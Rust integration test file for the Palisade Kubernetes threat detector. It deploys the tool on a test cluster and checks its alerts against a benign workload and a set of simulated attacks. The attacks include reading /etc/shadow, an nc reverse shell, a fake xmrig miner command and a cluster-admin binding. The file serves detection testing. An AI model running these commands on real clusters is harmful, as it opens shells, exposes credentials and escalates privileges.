//! The cluster tier: Palisade from its real image (deploy/Dockerfile, built by buildah and imported into the
//! node's containerd) deployed with the shipped Kustomize base through the testbed overlay on the testbed's
//! one-node cluster (a real kubelet, containerd and kube-proxy), then attacked through kubectl as a user would.
//! Node alerts must carry the pod context the kubelet and containerd really set; control-plane alerts must come
//! through the API server's audit webhook to the deployed `palisade audit`; a benign set in the same cluster must
//! raise nothing; deleting and reinstalling Palisade must lose nothing.
//!
//! Ignored in a plain `cargo test`: `scripts/cluster-tier` brings the cluster up, builds and imports the images and
//! runs it (`scripts/test` calls that script, so CI always runs it).

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::env;
use serde_json::{Value, json};

const OVERLAY: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/deploy/k8s/overlays/testbed");
const CHART: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/deploy/helm/palisade");
const NAMESPACE_YAML: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/deploy/k8s/base/namespace.yaml");
const INDEX_PREFIX: &str = "palisade-cluster-alerts";
const ALERTS_TOPIC: &str = "palisade.alerts";
const ATTACKBOX: &str = "docker.io/palisade/attackbox:1";
const PALISADE_IMAGE: &str = "localhost/palisade:testbed";

fn kubectl_output(args: &[&str], stdin: Option<&str>) -> Output {
    let mut command = Command::new(env("PALISADE_TEST_CLUSTER_KUBECTL"));
    command
        .arg("--kubeconfig")
        .arg(env("PALISADE_TEST_CLUSTER_KUBECONFIG"))
        .args(args)
        .stdin(if stdin.is_some() { Stdio::piped() } else { Stdio::null() })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = command.spawn().expect("kubectl runs");
    if let Some(input) = stdin {
        use std::io::Write;
        child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    }
    child.wait_with_output().unwrap()
}

/// Runs kubectl and returns its stdout; fails the test with its stderr unless it succeeds.
fn kubectl(args: &[&str]) -> String {
    let output = kubectl_output(args, None);
    assert!(
        output.status.success(),
        "kubectl {}: {}\n{}",
        args.join(" "),
        String::from_utf8_lossy(&output.stderr),
        String::from_utf8_lossy(&output.stdout)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn kubectl_apply(yaml: &str) {
    let output = kubectl_output(&["apply", "-f", "-"], Some(yaml));
    assert!(output.status.success(), "kubectl apply: {}", String::from_utf8_lossy(&output.stderr));
}

/// The Secrets the audit Deployment names, from the testbed's PKI (the operator's part of the install).
fn create_secrets() {
    let pki = env("PALISADE_TEST_CLUSTER_PKI");
    kubectl(&["apply", "-f", NAMESPACE_YAML]);
    let tls = kubectl(&[
        "-n",
        "palisade",
        "create",
        "secret",
        "tls",
        "palisade-audit-tls",
        &format!("--cert={pki}/audit-webhook.crt"),
        &format!("--key={pki}/audit-webhook.key"),
        "--dry-run=client",
        "-o",
        "yaml",
    ]);
    kubectl_apply(&tls);
    let token = kubectl(&[
        "-n",
        "palisade",
        "create",
        "secret",
        "generic",
        "palisade-audit-token",
        &format!("--from-file=token={pki}/audit-webhook.token"),
        "--dry-run=client",
        "-o",
        "yaml",
    ]);
    kubectl_apply(&token);
}

const ROLLOUTS: [&str; 5] = [
    "daemonset/palisade-collect",
    "deployment/palisade-audit",
    "deployment/palisade-detect",
    "deployment/palisade-enrich",
    "deployment/palisade-sink",
];

/// Applies the overlay and waits until every Palisade workload has rolled out (every pod Ready).
fn install() -> Duration {
    let start = Instant::now();
    create_secrets();
    kubectl(&["apply", "-k", OVERLAY]);
    wait_for_rollouts();
    start.elapsed()
}

fn helm(args: &[&str]) -> String {
    let output = Command::new(env("PALISADE_TEST_HELM"))
        .args(args)
        .env("KUBECONFIG", env("PALISADE_TEST_CLUSTER_KUBECONFIG"))
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "helm {}: {}\n{}",
        args.join(" "),
        String::from_utf8_lossy(&output.stderr),
        String::from_utf8_lossy(&output.stdout)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Installs the Helm chart with the testbed's values (the Secrets as the overlay has them).
fn install_with_helm() -> Duration {
    let start = Instant::now();
    create_secrets();
    // From a file, never a command-line argument (the testbed's OpenSearch has no users: it is never read).
    let password = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(password.path(), "unused").unwrap();
    let search = kubectl(&[
        "-n",
        "palisade",
        "create",
        "secret",
        "generic",
        "palisade-search",
        &format!("--from-file=password={}", password.path().display()),
        "--dry-run=client",
        "-o",
        "yaml",
    ]);
    kubectl_apply(&search);
    helm(&[
        "install",
        "palisade",
        CHART,
        "--namespace",
        "palisade",
        "--values",
        &format!("{OVERLAY}/helm-values.yaml"),
    ]);
    wait_for_rollouts();
    start.elapsed()
}

/// The pods, the last lines of the detect, enrich and sink pods' logs (and of detect's previous containers) and
/// where each stage's group stands on its input, for a failure's message.
fn stage_logs() -> String {
    let mut out = kubectl(&["-n", "palisade", "get", "pods", "-o", "wide"]);
    for stage in ["palisade-detect", "palisade-enrich", "palisade-sink"] {
        let selector = format!("app.kubernetes.io/name={stage}");
        let logs = kubectl_output(&["-n", "palisade", "logs", "-l", &selector, "--prefix", "--tail=60"], None);
        out.push_str(&format!("--- {stage}\n{}", String::from_utf8_lossy(&logs.stdout)));
    }
    let selector = "app.kubernetes.io/name=palisade-detect";
    let previous =
        kubectl_output(&["-n", "palisade", "logs", "-l", selector, "--prefix", "--previous", "--tail=30"], None);
    out.push_str(&format!("--- detect, previous containers\n{}", String::from_utf8_lossy(&previous.stdout)));
    for (group, topic) in [
        ("palisade-detect", "palisade.node.events"),
        ("palisade-enrich", "palisade.detections"),
        ("palisade-sink-index", "palisade.enriched"),
    ] {
        out.push_str(&format!("--- {group} on {topic}: {:?}\n", positions(group, topic)));
    }
    out
}

/// A consumer in `group` that commits nothing, to read the group's committed offsets and the watermarks.
fn group_reader(group: &str) -> rdkafka::consumer::BaseConsumer {
    rdkafka::config::ClientConfig::new()
        .set("bootstrap.servers", env("PALISADE_TEST_KAFKA"))
        .set("group.id", group)
        .set("enable.auto.commit", "false")
        .create()
        .unwrap()
}

/// By partition of `topic`: the offset `group` committed, the offset after its last record, the high watermark.
fn positions(group: &str, topic: &str) -> Vec<(i32, i64, i64, i64)> {
    use rdkafka::consumer::Consumer;
    use rdkafka::topic_partition_list::{Offset, TopicPartitionList};
    let consumer = group_reader(group);
    let Ok(metadata) = consumer.fetch_metadata(Some(topic), Duration::from_secs(10)) else { return Vec::new() };
    let mut out = Vec::new();
    for partition in metadata.topics().iter().flat_map(|t| t.partitions()) {
        let mut list = TopicPartitionList::new();
        list.add_partition(topic, partition.id());
        let committed = consumer.committed_offsets(list, Duration::from_secs(10)).ok();
        let at = committed
            .and_then(|c| c.elements().first().map(|e| if let Offset::Offset(n) = e.offset() { n } else { -1 }))
            .unwrap_or(-2);
        let (_, high) = consumer.fetch_watermarks(topic, partition.id(), Duration::from_secs(10)).unwrap_or((0, -1));
        out.push((partition.id(), at, after_last_record(topic, partition.id(), high), high));
    }
    out
}

fn wait_for_rollouts() {
    for rollout in ROLLOUTS {
        let output = kubectl_output(&["-n", "palisade", "rollout", "status", rollout, "--timeout=300s"], None);
        if !output.status.success() {
            let pods = kubectl(&["-n", "palisade", "get", "pods", "-o", "wide"]);
            let events = kubectl(&["-n", "palisade", "get", "events", "--sort-by=.lastTimestamp"]);
            let logs = kubectl_output(&["-n", "palisade", "logs", rollout, "--all-containers", "--tail=40"], None);
            panic!(
                "{rollout} did not roll out: {}\npods:\n{pods}\nevents:\n{events}\nlogs:\n{}",
                String::from_utf8_lossy(&output.stderr),
                String::from_utf8_lossy(&logs.stdout)
            );
        }
    }
}

/// Every running Palisade container with the user and capabilities its manifest declares, as the kernel sees them
/// (the process's /proc status on the node, found by the container ID containerd reports).
fn security_contexts() -> BTreeMap<String, (u32, u64)> {
    let pods: Value =
        serde_json::from_str(&kubectl(&["-n", "palisade", "get", "pods", "-o", "json"])).expect("pod list is JSON");
    let mut seen = BTreeMap::new();
    for pod in pods["items"].as_array().unwrap() {
        let name = pod["metadata"]["name"].as_str().unwrap().to_owned();
        for status in pod["status"]["containerStatuses"].as_array().into_iter().flatten() {
            let id = status["containerID"].as_str().unwrap_or_default().trim_start_matches("containerd://");
            if id.is_empty() {
                continue;
            }
            if let Some((uid, caps)) = process_of_container(id) {
                seen.insert(name.clone(), (uid, caps));
            }
        }
    }
    seen
}

/// The effective uid and capability set of a process in the cgroup of container `id`.
fn process_of_container(id: &str) -> Option<(u32, u64)> {
    for entry in std::fs::read_dir("/proc").ok()?.flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else { continue };
        let Ok(cgroup) = std::fs::read_to_string(format!("/proc/{pid}/cgroup")) else { continue };
        if !cgroup.lines().any(|line| line.ends_with(id)) {
            continue;
        }
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
        let field = |name: &str| {
            status.lines().find(|line| line.starts_with(name)).map(|line| line[name.len()..].trim().to_owned())
        };
        let uid = field("Uid:")?.split_whitespace().nth(1)?.parse().ok()?;
        let caps = u64::from_str_radix(&field("CapEff:")?, 16).ok()?;
        return Some((uid, caps));
    }
    None
}

/// The alerts in the index whose namespace is `namespace`.
fn indexed_alerts(query: Value) -> Vec<Value> {
    let client = reqwest::blocking::Client::new();
    let url = format!("{}/{INDEX_PREFIX}-*/_search", env("PALISADE_TEST_OPENSEARCH"));
    let response = client.post(&url).json(&json!({"size": 1000, "query": query})).send().expect("OpenSearch answers");
    assert!(response.status().is_success(), "search: {}", response.status());
    let body: Value = response.json().expect("a search answer is JSON");
    body["hits"]["hits"].as_array().expect("hits").iter().map(|hit| hit["_source"].clone()).collect()
}

/// Searches until some alerts match `query` and satisfy `done` (an index that does not exist yet is no answer).
fn wait_for_alerts(query: Value, done: impl Fn(&[Value]) -> bool, timeout: Duration) -> Vec<Value> {
    let client = reqwest::blocking::Client::new();
    let url = format!("{}/{INDEX_PREFIX}-*/_search", env("PALISADE_TEST_OPENSEARCH"));
    let deadline = Instant::now() + timeout;
    loop {
        let response =
            client.post(&url).json(&json!({"size": 1000, "query": query})).send().expect("OpenSearch answers");
        if response.status().is_success() {
            let body: Value = response.json().expect("a search answer is JSON");
            let alerts: Vec<Value> =
                body["hits"]["hits"].as_array().expect("hits").iter().map(|hit| hit["_source"].clone()).collect();
            if done(&alerts) || Instant::now() >= deadline {
                return alerts;
            }
        } else {
            assert!(Instant::now() < deadline, "search: {}", response.status());
        }
        std::thread::sleep(Duration::from_millis(500));
    }
}

/// Makes everything indexed so far visible to searches.
fn refresh_index() {
    let url = format!("{}/{INDEX_PREFIX}-*/_refresh", env("PALISADE_TEST_OPENSEARCH"));
    let response = reqwest::blocking::Client::new().post(&url).send().expect("OpenSearch answers");
    assert!(response.status().is_success(), "refresh: {}", response.status());
}

fn namespace_query(namespace: &str) -> Value {
    json!({"term": {"orchestrator.namespace": namespace}})
}

fn types_of(alerts: &[Value]) -> BTreeSet<String> {
    alerts.iter().filter_map(|alert| alert["rule"]["id"].as_str().map(str::to_owned)).collect()
}

/// Waits until the index holds every type in `wanted` for `query`; returns what it holds then (or at the deadline).
fn wait_for_types(query: Value, wanted: &[&str], timeout: Duration) -> Vec<Value> {
    wait_for_alerts(query, |alerts| wanted.iter().all(|wanted| types_of(alerts).contains(*wanted)), timeout)
}

/// `kubectl exec` into the first pod of `deployment`; the command's failure is not the test's (an attack may fail
/// and still be seen).
fn exec(namespace: &str, target: &str, script: &str) {
    let output = kubectl_output(&["-n", namespace, "exec", target, "--", "sh", "-c", script], None);
    eprintln!("exec {target}: {script}: {} {}", output.status, String::from_utf8_lossy(&output.stderr).trim());
}

/// CPU (millicores over the last sample) and memory (working set, MiB) of each Palisade pod, from the kubelet's
/// summary API.
fn pod_usage() -> BTreeMap<String, (u64, u64)> {
    let raw = kubectl(&["get", "--raw", "/api/v1/nodes/palisade-node/proxy/stats/summary"]);
    let summary: Value = serde_json::from_str(&raw).unwrap();
    let mut usage = BTreeMap::new();
    for pod in summary["pods"].as_array().into_iter().flatten() {
        if pod["podRef"]["namespace"] != "palisade" {
            continue;
        }
        let cpu = pod["cpu"]["usageNanoCores"].as_u64().unwrap_or(0) / 1_000_000;
        let memory = pod["memory"]["workingSetBytes"].as_u64().unwrap_or(0) / (1024 * 1024);
        usage.insert(pod["podRef"]["name"].as_str().unwrap_or_default().to_owned(), (cpu, memory));
    }
    usage
}

/// The pods' usage once the kubelet has sampled every one of them (its first samples come some seconds after a
/// container starts).
fn settled_pod_usage() -> BTreeMap<String, (u64, u64)> {
    let deadline = Instant::now() + Duration::from_secs(90);
    loop {
        let usage = pod_usage();
        if usage.values().all(|(_, memory)| *memory > 0) || Instant::now() >= deadline {
            return usage;
        }
        std::thread::sleep(Duration::from_secs(2));
    }
}

/// A TCP listener on the node's address that reads whatever connects (the reverse shell's other end).
fn listener_on_node() -> u16 {
    let node_ip = env("PALISADE_TEST_CLUSTER_NODE_IP");
    let listener = std::net::TcpListener::bind((node_ip.as_str(), 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                use std::io::Write;
                let mut stream = stream;
                // What an operator of the shell would type, then hang up.
                let _ = stream.write_all(b"id\nexit\n");
                let _ = std::io::copy(&mut stream, &mut std::io::sink());
            });
        }
    });
    port
}

#[test]
#[ignore = "cluster tier: run by scripts/cluster-tier (scripts/test runs it), which starts the cluster and builds the images"]
fn palisade_deployed_from_its_image_on_a_real_cluster_sees_kubectl_attacks_with_pod_context() {
    let run = common::run_id();
    let attack_ns = format!("attack-{run}");
    let benign_ns = format!("benign-{run}");
    let binding = format!("attack-{run}");
    let _cleanup = Cleanup { namespaces: vec![attack_ns.clone(), benign_ns.clone()], binding: binding.clone() };

    // ---- install, as the README tells an operator to, on a cluster with no Palisade: an earlier run's release
    // is removed.
    kubectl(&["delete", "namespace", "palisade", "--ignore-not-found", "--wait=true", "--timeout=180s"]);
    let took = install();
    eprintln!("figure: Palisade installed and every pod Ready in {:.1} s", took.as_secs_f64());
    let contexts = security_contexts();
    eprintln!("security contexts (uid, CapEff): {contexts:x?}");
    for (pod, (uid, caps)) in &contexts {
        if pod.starts_with("palisade-collect") {
            // BPF (39), PERFMON (38), SYS_PTRACE (19), DAC_READ_SEARCH (2): nothing else.
            let declared = (1u64 << 39) | (1 << 38) | (1 << 19) | (1 << 2);
            assert_eq!(*caps, declared, "{pod} runs with exactly the capabilities collect.yaml adds");
            assert_eq!(*uid, 0, "{pod} runs as root (BPF maps and tracefs are root's)");
        } else {
            assert_eq!(*caps, 0, "{pod} drops every capability");
            assert_eq!(*uid, 10001, "{pod} runs as the image's unprivileged user");
        }
    }
    for prefix in ["palisade-collect", "palisade-audit", "palisade-detect", "palisade-enrich", "palisade-sink"] {
        assert!(contexts.keys().any(|pod| pod.starts_with(prefix)), "a running {prefix} pod in {contexts:?}");
    }
    let idle = settled_pod_usage();
    eprintln!("figure: Palisade pods idle (millicores, MiB working set): {idle:?}");

    // ---- the benign set: a web app answering a client through its Service, a CronJob's job, a rollout.
    kubectl(&["create", "namespace", &benign_ns]);
    kubectl(&[
        "-n",
        &benign_ns,
        "create",
        "deployment",
        "web",
        "--image",
        ATTACKBOX,
        "--",
        "sh",
        "-c",
        "mkdir -p /www && echo ok > /www/index.html && exec httpd -f -p 8080 -h /www",
    ]);
    kubectl(&["-n", &benign_ns, "expose", "deployment", "web", "--port", "80", "--target-port", "8080"]);
    kubectl(&[
        "-n",
        &benign_ns,
        "create",
        "cronjob",
        "report",
        "--image",
        ATTACKBOX,
        "--schedule",
        "*/5 * * * *",
        "--",
        "sh",
        "-c",
        "date; ls /tmp > /dev/null",
    ]);
    kubectl(&["-n", &benign_ns, "create", "job", "report-now", "--from=cronjob/report"]);
    kubectl(&["-n", &benign_ns, "rollout", "status", "deployment/web", "--timeout=120s"]);
    kubectl(&["-n", &benign_ns, "wait", "--for=condition=complete", "job/report-now", "--timeout=120s"]);
    // No cluster DNS in the testbed: the client reaches the Service by its address.
    let web = kubectl(&["-n", &benign_ns, "get", "service", "web", "-o", "jsonpath={.spec.clusterIP}"]);
    kubectl(&[
        "-n",
        &benign_ns,
        "run",
        "client",
        "--image",
        ATTACKBOX,
        "--restart=Never",
        "--",
        "sh",
        "-c",
        &format!("for i in 1 2 3; do wget -q -O /dev/null http://{web}/ || exit 1; done"),
    ]);
    kubectl(&["-n", &benign_ns, "wait", "--for=jsonpath={.status.phase}=Succeeded", "pod/client", "--timeout=120s"]);
    kubectl(&["-n", &benign_ns, "set", "env", "deployment/web", "GREETING=hello"]);
    kubectl(&["-n", &benign_ns, "rollout", "status", "deployment/web", "--timeout=120s"]);

    // ---- attacks in a workload's pod, through kubectl exec.
    kubectl(&["create", "namespace", &attack_ns]);
    kubectl(&["-n", &attack_ns, "create", "deployment", "victim", "--image", ATTACKBOX]);
    kubectl(&["-n", &attack_ns, "rollout", "status", "deployment/victim", "--timeout=120s"]);
    let victim =
        kubectl(&["-n", &attack_ns, "get", "pods", "-l", "app=victim", "-o", "jsonpath={.items[0].metadata.name}"]);
    let target = format!("pod/{victim}");
    let port = listener_on_node();
    let node_ip = env("PALISADE_TEST_CLUSTER_NODE_IP");
    // The static musl tool (open(2), as Alpine's are) under a file tool's name.
    exec(&attack_ns, &target, "cp /usr/local/bin/readfile /tmp/cat && /tmp/cat /etc/shadow > /dev/null");
    // Recon inside one busybox `sh -c`: whoami, hostname and uname are NOFORK applets that run in the shell's
    // own process and exec nothing; the script's words count.
    exec(&attack_ns, &target, "whoami; hostname; uname -a; id > /dev/null");
    exec(&attack_ns, &target, &format!("timeout 5 nc {node_ip} {port} -e /bin/sh"));
    exec(
        &attack_ns,
        &target,
        "cp /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 4AbC --donate-level 1",
    );
    // The documented smoke test, in a pod of its own (the collector's is read-only and runs no shell).
    kubectl(&[
        "-n",
        &attack_ns,
        "run",
        "palisade-smoke",
        "--image",
        PALISADE_IMAGE,
        "--restart=Never",
        "--",
        "test-alert",
    ]);
    // Control plane, through the API server's webhook: a privileged pod and a cluster-admin binding.
    kubectl(&["-n", &attack_ns, "run", "priv", "--image", ATTACKBOX, "--privileged"]);
    kubectl(&["-n", &attack_ns, "wait", "--for=condition=Ready", "pod/priv", "--timeout=120s"]);
    exec(&attack_ns, "pod/priv", "id");
    kubectl(&[
        "create",
        "clusterrolebinding",
        &binding,
        "--clusterrole",
        "cluster-admin",
        "--serviceaccount",
        &format!("{attack_ns}:default"),
    ]);

    let node_types = [
        "K8S.NODE_SuspectPasswordFileAccess",
        "K8S.NODE_ReconnaissanceArtifactsBurst",
        "K8S.NODE_ReverseShell",
        "K8S.NODE_CryptoCoinMinerExecution",
        "K8S.NODE_EICAR",
        "K8S.NODE_PrivilegedExecutionInContainer",
        "K8S_PrivilegedContainer",
    ];
    let attack_alerts = wait_for_types(namespace_query(&attack_ns), &node_types, Duration::from_secs(180));
    let types = types_of(&attack_alerts);
    eprintln!("alerts in {attack_ns}: {types:?}");
    let missing: Vec<_> = node_types.iter().filter(|wanted| !types.contains(**wanted)).collect();
    assert!(missing.is_empty(), "missing {missing:?}; raised {types:?}");
    let binding_alerts = wait_for_alerts(
        json!({"bool": {"must": [
            {"term": {"rule.id": "K8S_ClusterAdminBinding"}},
            {"term": {"orchestrator.cluster.name": "testbed"}}
        ]}}),
        |alerts| alerts.iter().any(|alert| alert.to_string().contains(&binding)),
        Duration::from_secs(120),
    );
    assert!(
        binding_alerts.iter().any(|alert| alert.to_string().contains(&binding)),
        "K8S_ClusterAdminBinding names {binding}: {binding_alerts:#?}"
    );

    // Node alerts carry the context the kubelet and containerd set.
    for alert in
        attack_alerts.iter().filter(|alert| alert["rule"]["id"].as_str().unwrap_or("").starts_with("K8S.NODE_"))
    {
        let kind = alert["rule"]["id"].as_str().unwrap();
        if kind == "K8S.NODE_EICAR" {
            assert_eq!(alert["orchestrator"]["resource"]["name"], "palisade-smoke", "{alert:#}");
            assert_eq!(alert["container"]["image"]["name"], PALISADE_IMAGE, "{alert:#}");
            continue;
        }
        if kind == "K8S.NODE_PrivilegedExecutionInContainer" {
            // The privileged pod's own process and the command exec'd into it (a bare pod: no workload).
            assert_eq!(alert["orchestrator"]["resource"]["name"], "priv", "{alert:#}");
            assert_eq!(alert["container"]["image"]["name"], ATTACKBOX, "{alert:#}");
            continue;
        }
        assert_eq!(alert["orchestrator"]["resource"]["name"], victim.as_str(), "{kind}: {alert:#}");
        assert_eq!(alert["orchestrator"]["cluster"]["name"], "testbed", "{kind}: {alert:#}");
        assert_eq!(alert["container"]["image"]["name"], ATTACKBOX, "{kind}: {alert:#}");
        assert!(
            alert["container"]["id"].as_str().is_some_and(|id| id.len() == 64),
            "{kind} names the container: {alert:#}"
        );
        let workload = alert["palisade"]["workload"].as_str().unwrap_or_default();
        assert!(
            workload == "Deployment/victim" || workload.starts_with("ReplicaSet/victim-"),
            "{kind} names the workload: {alert:#}"
        );
    }

    // The same alerts on the alerts topic, each once.
    let on_topic = common::collect_alerts(ALERTS_TOPIC, Duration::from_secs(60), |seen| {
        let types: BTreeSet<_> = seen
            .iter()
            .filter(|alert| alert["namespace"] == attack_ns.as_str())
            .filter_map(|alert| alert["alert_type"].as_str())
            .collect();
        node_types.iter().all(|wanted| types.contains(wanted))
    });
    let ours: Vec<_> = on_topic.iter().filter(|alert| alert["namespace"] == attack_ns.as_str()).collect();
    let topic_types: BTreeSet<_> = ours.iter().filter_map(|alert| alert["alert_type"].as_str()).collect();
    for wanted in node_types {
        assert!(topic_types.contains(wanted), "{wanted} on {ALERTS_TOPIC}: {topic_types:?}");
    }
    let busy = settled_pod_usage();
    eprintln!("figure: Palisade pods after the attack run (millicores, MiB working set): {busy:?}");

    // Nothing from the benign namespace, once every stage has acknowledged everything its input held when the
    // attacks' alerts had arrived (the benign set's events were published before the attacks').
    for (group, topics) in [
        ("palisade-detect", &["palisade.node.events", "palisade.audit.events"][..]),
        ("palisade-enrich", &["palisade.detections"]),
        ("palisade-sink-index", &["palisade.enriched"]),
    ] {
        wait_caught_up(group, topics, Duration::from_secs(120));
    }
    refresh_index();
    let benign_alerts = indexed_alerts(namespace_query(&benign_ns));
    assert!(benign_alerts.is_empty(), "the benign set raised {:?}: {benign_alerts:#?}", types_of(&benign_alerts));

    // ---- delete Palisade and install it again: alerts resume, none is lost or repeated.
    let before: BTreeSet<String> = ours.iter().filter_map(|alert| alert["id"].as_str().map(str::to_owned)).collect();
    kubectl(&["delete", "-k", OVERLAY, "--wait=true", "--timeout=180s"]);
    let took = install();
    eprintln!("figure: reinstalled, every pod Ready in {:.1} s", took.as_secs_f64());
    let again = smoke_test(&attack_ns, "palisade-smoke-again");
    assert!(
        again.is_some(),
        "the reinstalled Palisade raised the smoke test's alert:\n{}{}",
        test_alerts_indexed(),
        stage_logs()
    );
    let after = indexed_alerts(namespace_query(&attack_ns));
    let after_types = types_of(&after);
    for wanted in node_types {
        assert!(after_types.contains(wanted), "{wanted} still in the index after the reinstall: {after_types:?}");
    }
    let on_topic = common::collect_alerts(ALERTS_TOPIC, Duration::from_secs(60), |seen| {
        let ids: BTreeSet<&str> = seen
            .iter()
            .filter(|alert| alert["namespace"] == attack_ns.as_str())
            .filter_map(|alert| alert["id"].as_str())
            .collect();
        before.iter().all(|id| ids.contains(id.as_str())) && ids.iter().any(|id| !before.contains(*id))
    });
    // Delivery is at least once (DESIGN.md): an id may come again as a deduplication update (a higher count) or,
    // when a stage's partitions moved while a record was in flight (the two enrich replicas joining one after the
    // other), as the same alert again. Both are counted, not asserted; what is asserted is that none is lost.
    let mut counts: BTreeMap<&str, Vec<i64>> = BTreeMap::new();
    for alert in on_topic.iter().filter(|alert| alert["namespace"] == attack_ns.as_str()) {
        let id = alert["id"].as_str().unwrap_or_default();
        counts.entry(id).or_default().push(alert["count"].as_i64().unwrap_or(1));
    }
    let lost: Vec<&String> = before.iter().filter(|id| !counts.contains_key(id.as_str())).collect();
    assert!(lost.is_empty(), "alerts of the first install missing from {ALERTS_TOPIC} after the reinstall: {lost:?}");
    let updates = counts.values().filter(|seen| seen.windows(2).any(|pair| pair[1] > pair[0])).count();
    let again: Vec<_> = counts.iter().filter(|(_, seen)| seen.windows(2).any(|pair| pair[1] <= pair[0])).collect();
    eprintln!(
        "figure: {} alerts on {ALERTS_TOPIC} for the attacks, {updates} updated by dedup, {} written again: {again:?}",
        counts.len(),
        again.len()
    );

    // ---- the Helm chart in place of the Kustomize objects: the same smoke test raises its alert.
    kubectl(&["delete", "-k", OVERLAY, "--wait=true", "--timeout=180s"]);
    let took = install_with_helm();
    eprintln!("figure: installed with Helm, every pod Ready in {:.1} s", took.as_secs_f64());
    let helm_alert = smoke_test(&attack_ns, "palisade-smoke-helm");
    assert!(
        helm_alert.is_some(),
        "Palisade installed with Helm raised the smoke test's alert:\n{}{}",
        test_alerts_indexed(),
        stage_logs()
    );
    helm(&["uninstall", "palisade", "--namespace", "palisade", "--wait"]);
}

/// Removes what the attacks left (a cluster-admin binding, a CronJob), also when the test fails.
struct Cleanup {
    namespaces: Vec<String>,
    binding: String,
}

impl Drop for Cleanup {
    fn drop(&mut self) {
        let mut args = vec!["delete", "namespace", "--ignore-not-found", "--wait=false"];
        args.extend(self.namespaces.iter().map(String::as_str));
        let _ = kubectl_output(&args, None);
        let _ = kubectl_output(&["delete", "clusterrolebinding", &self.binding, "--ignore-not-found"], None);
    }
}

/// The offset after the last record a `read_committed` reader gets from a partition that ends at `high`: a
/// partition written in transactions ends in commit markers, which no consumer is given and none commits past.
fn after_last_record(topic: &str, partition: i32, high: i64) -> i64 {
    use rdkafka::config::ClientConfig;
    use rdkafka::consumer::{BaseConsumer, Consumer};
    use rdkafka::message::Message as _;
    use rdkafka::topic_partition_list::{Offset, TopicPartitionList};
    let reader: BaseConsumer = ClientConfig::new()
        .set("bootstrap.servers", env("PALISADE_TEST_KAFKA"))
        .set("group.id", "cluster-tier-tail-reader")
        .set("enable.auto.commit", "false")
        .set("enable.partition.eof", "true")
        .set("isolation.level", "read_committed")
        .create()
        .unwrap();
    let (low, _) = reader.fetch_watermarks(topic, partition, Duration::from_secs(10)).unwrap();
    let mut tail = TopicPartitionList::new();
    tail.add_partition_offset(topic, partition, Offset::Offset(low.max(high - 64))).unwrap();
    reader.assign(&tail).unwrap();
    let mut after = low.max(high - 64);
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        match reader.poll(Duration::from_millis(200)) {
            Some(Ok(message)) if message.offset() < high => after = after.max(message.offset() + 1),
            Some(Err(rdkafka::error::KafkaError::PartitionEOF(_))) => break,
            _ => {}
        }
    }
    after
}

/// Waits until consumer group `group` has committed, on every partition of `topics`, at least the end offset the
/// partition had when this was called (the offset after its last record).
fn wait_caught_up(group: &str, topics: &[&str], timeout: Duration) {
    use rdkafka::consumer::Consumer;
    use rdkafka::topic_partition_list::{Offset, TopicPartitionList};
    let consumer = group_reader(group);
    let metadata = consumer.fetch_metadata(None, Duration::from_secs(10)).unwrap();
    let mut wanted = BTreeMap::new();
    let mut list = TopicPartitionList::new();
    for topic in metadata.topics().iter().filter(|t| topics.contains(&t.name())) {
        for partition in topic.partitions() {
            let (_, high) = consumer.fetch_watermarks(topic.name(), partition.id(), Duration::from_secs(10)).unwrap();
            let wanted_offset = after_last_record(topic.name(), partition.id(), high);
            wanted.insert((topic.name().to_owned(), partition.id()), wanted_offset);
            list.add_partition(topic.name(), partition.id());
        }
    }
    let deadline = Instant::now() + timeout;
    loop {
        let committed = consumer.committed_offsets(list.clone(), Duration::from_secs(10)).unwrap();
        let behind: Vec<_> = committed
            .elements()
            .iter()
            .filter_map(|element| {
                let high = wanted[&(element.topic().to_owned(), element.partition())];
                let at = match element.offset() {
                    Offset::Offset(offset) => offset,
                    _ => 0,
                };
                (at < high).then(|| format!("{}[{}] {at}/{high}", element.topic(), element.partition()))
            })
            .collect();
        if behind.is_empty() {
            return;
        }
        assert!(Instant::now() < deadline, "{group} did not catch up: {behind:?}");
        std::thread::sleep(Duration::from_millis(500));
    }
}

/// The objects of a multi-document YAML stream, keyed by kind, namespace and name; the configuration file inside
/// the ConfigMap is parsed, so the comparison is of settings, not of TOML spelling and comments.
fn objects_of(yaml: &str) -> BTreeMap<(String, String, String), Value> {
    let mut objects = BTreeMap::new();
    for document in serde_yaml::Deserializer::from_str(yaml) {
        let mut object: Value = serde_yaml::with::singleton_map_recursive::deserialize(document).unwrap();
        if object.is_null() {
            continue;
        }
        if object["kind"] == "ConfigMap"
            && let Some(text) = object["data"]["palisade.toml"].as_str()
        {
            let settings: toml::Value = toml::from_str(text).expect("palisade.toml parses");
            object["data"]["palisade.toml"] = serde_json::to_value(settings).unwrap();
        }
        let key = (
            object["kind"].as_str().unwrap_or_default().to_owned(),
            object["metadata"]["namespace"].as_str().unwrap_or_default().to_owned(),
            object["metadata"]["name"].as_str().unwrap_or_default().to_owned(),
        );
        assert!(objects.insert(key.clone(), object).is_none(), "{key:?} twice");
    }
    objects
}

#[test]
#[ignore = "cluster tier: needs the helm and kubectl the cluster build makes (scripts/cluster-tier)"]
fn the_helm_chart_renders_the_kustomize_base_for_its_default_values() {
    let base = concat!(env!("CARGO_MANIFEST_DIR"), "/deploy/k8s/base");
    let render = |extra: &[&str]| {
        let rendered = Command::new(env("PALISADE_TEST_HELM"))
            .args(["template", "palisade", CHART, "--namespace", "palisade"])
            .args(extra)
            .output()
            .unwrap();
        assert!(rendered.status.success(), "helm template: {}", String::from_utf8_lossy(&rendered.stderr));
